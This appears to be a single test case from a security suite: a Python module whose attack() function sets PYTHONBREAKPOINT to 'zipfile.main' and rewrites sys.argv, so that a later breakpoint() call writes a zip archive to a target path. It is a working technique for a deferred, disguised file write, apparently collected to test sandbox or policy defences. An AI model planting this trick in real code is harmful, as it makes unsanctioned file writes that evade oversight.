"""An environment variable says that breakpoint() calls a main program."""
CATEGORY = "deferred"
REACH = "write"
POLICIES = ("allow",)

import os
import sys

from . import payload


def attack():
    sys.argv[1:] = ["-c", payload.TARGET, __file__]
    os.environ["PYTHONBREAKPOINT"] = "zipfile.main"
